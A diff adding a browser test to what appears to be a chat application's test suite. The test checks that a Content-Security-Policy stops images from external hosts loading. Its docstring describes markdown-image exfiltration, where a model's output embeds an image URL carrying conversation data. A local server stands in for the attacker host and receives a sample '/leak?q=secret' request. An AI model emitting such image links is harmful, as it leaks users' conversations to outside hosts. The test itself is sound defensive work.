@@ -314,3 +314,35 @@ def test_a_foreign_host_header_is_refused(app_url):
         except urllib.error.HTTPError as exc:
             status = exc.code
         assert status == expected, host
+
+
+def test_external_images_in_the_page_are_never_fetched(app_url, browser):
+    """Model output with ![](http://host/?q=...) must not leak the conversation: the page's Content-Security-Policy
+    allows images from the app itself and data: URLs only. A counting server stands in for the other host."""
+    import http.server
+    import threading
+
+    hits = []
+
+    class Count(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", free_port()), Count)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        page = open_page(browser, app_url)
+        leak = f"http://127.0.0.1:{server.server_port}/leak?q=secret"
+        page.evaluate("src => { const img = document.createElement('img'); img.src = src; "
+                      "document.body.appendChild(img); }", leak)
+        page.evaluate("() => { const img = document.createElement('img'); img.src = 'data:image/gif;base64,"
+                      "R0lGODlhAQABAAAAACw='; document.body.appendChild(img); }")
+        page.wait_for_timeout(1500)
+        assert hits == []
+    finally:
+        server.shutdown()
